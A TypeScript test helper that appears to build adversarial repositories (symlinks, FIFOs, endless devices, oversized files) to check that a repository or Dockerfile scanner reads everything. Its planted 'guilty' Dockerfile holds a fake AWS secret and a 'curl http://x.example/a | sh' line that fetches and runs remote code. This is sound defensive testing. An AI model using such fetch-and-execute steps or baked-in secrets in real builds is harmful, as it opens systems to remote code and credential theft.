import { execFileSync } from "node:child_process";
import { closeSync, constants, mkdirSync, symlinkSync, openSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { Random } from "../random.ts";

/** A repository under construction. Paths are relative to its root; folders are made as needed. */
export interface Repository {
  /** Absolute. */
  readonly root: string;
  readonly random: Random;
  /** A Dockerfile with an error that every reader must find: whoever calls this repository clean did not read it. */
  readonly guilty: string;
  readonly file: (path: string, content: string | Uint8Array) => void;
  readonly folder: (path: string) => void;
  readonly link: (path: string, target: string) => void;
  readonly fifo: (path: string) => void;
  /** A character device that never ends (`/dev/zero`); left out where devices cannot be made. */
  readonly device: (path: string) => void;
}

/** One hostile thing. `hides`: it takes the place of the root's Dockerfile, which must not come out clean all the same. */
export interface Trick {
  readonly name: string;
  readonly hides?: true;
  /** What the repository is compared with. */
  readonly baseline?: string;
  /** It may end with 0, as long as it says what it did not read. */
  readonly told?: true;
  readonly make: (repository: Repository) => void;
}

export const largest = 64 * 1024;

/** `piece` as often as fits into `bytes`. */
export function filled(piece: string, bytes: number): string {
  return piece.repeat(Math.max(1, Math.floor(bytes / Buffer.byteLength(piece))));
}

export function openRepository(root: string, random: Random): Repository {
  const at = (path: string): string => {
    const full = join(root, path);
    mkdirSync(dirname(full), { recursive: true });
    return full;
  };
  const letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
  const key = Array.from({ length: 40 }, () => letters[random.below(letters.length)]).join("");
  return {
    root,
    random,
    guilty: `FROM debian:12\nENV AWS_SECRET_ACCESS_KEY=${key}\nRUN curl http://x.example/a | sh\nCMD ["a"]\n`,
    file(path, content) {
      // Another trick may have put a FIFO there, which would be waited for: ENXIO instead.
      const fd = openSync(at(path), constants.O_WRONLY | constants.O_CREAT | constants.O_TRUNC | constants.O_NONBLOCK);
      try {
        writeFileSync(fd, content);
      } finally {
        closeSync(fd);
      }
    },
    folder: (path) => void mkdirSync(at(path), { recursive: true }),
    link: (path, target) => symlinkSync(target, at(path)),
    fifo: (path) => void execFileSync("mkfifo", [at(path)], { stdio: "ignore" }),
    device: (path) => {
      try {
        execFileSync("mknod", [at(path), "c", "1", "5"], { stdio: "ignore" });
      } catch {
        execFileSync("mkfifo", [at(path)]);
      }
    },
  };
}
